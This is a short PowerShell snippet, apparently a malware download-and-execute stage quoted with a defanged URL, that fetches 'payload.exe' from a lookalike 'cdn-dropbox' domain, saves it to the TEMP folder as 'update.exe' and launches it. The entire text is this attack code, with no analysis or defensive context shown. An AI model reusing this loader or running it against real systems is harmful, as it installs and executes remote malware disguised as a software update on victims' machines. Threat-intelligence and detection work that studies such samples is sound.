$wc = New-Object System.Net.WebClient;
$url = 'hxxps[:]//cdn-dropbox[.]io/assets/payload.exe';
$file = "$env:TEMP\\update.exe";
$wc.DownloadFile($url, $file);
Start-Process $file;
